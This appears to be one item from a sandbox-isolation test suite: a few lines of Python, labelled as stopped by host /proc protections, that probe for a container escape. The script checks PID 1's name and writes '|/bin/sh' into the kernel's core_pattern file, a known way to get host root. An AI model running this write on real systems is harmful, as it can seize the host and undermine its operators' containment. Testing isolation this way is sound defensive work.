# stopped by: host-proc
# The machine's own /proc shows its processes, and who is root there writes what the kernel runs on a crash.
if open('/proc/1/comm').read().strip() not in ('sh', 'dash'):
    print('ESCAPED')
open('/proc/sys/kernel/core_pattern', 'w').write('|/bin/sh')
print('ESCAPED')
